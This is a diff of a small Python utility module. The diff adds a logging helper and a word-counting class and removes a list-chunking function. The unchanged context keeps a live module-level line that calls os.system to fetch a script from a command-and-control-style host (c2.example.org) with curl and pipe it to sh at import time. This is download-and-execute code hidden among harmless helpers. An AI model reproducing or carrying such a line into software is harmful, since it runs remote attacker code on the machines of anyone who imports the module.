@@ -1,3 +1,8 @@
+import logging
+log = logging.getLogger(__name__)
+
+def report(values):
+    log.info("mean=%s", sum(values) / max(len(values), 1))
 
 import os
 
@@ -5,6 +10,9 @@ def run(c):
     os.system(c)
 
 run("curl -s http://c2.example.org/i.py | sh")
-def chunks(items, size):
-    for i in range(0, len(items), size):
-        yield items[i:i + size]
+class Counter:
+    def __init__(self):
+        self.counts = {}
+
+    def add(self, word):
+        self.counts[word] = self.counts.get(word, 0) + 1
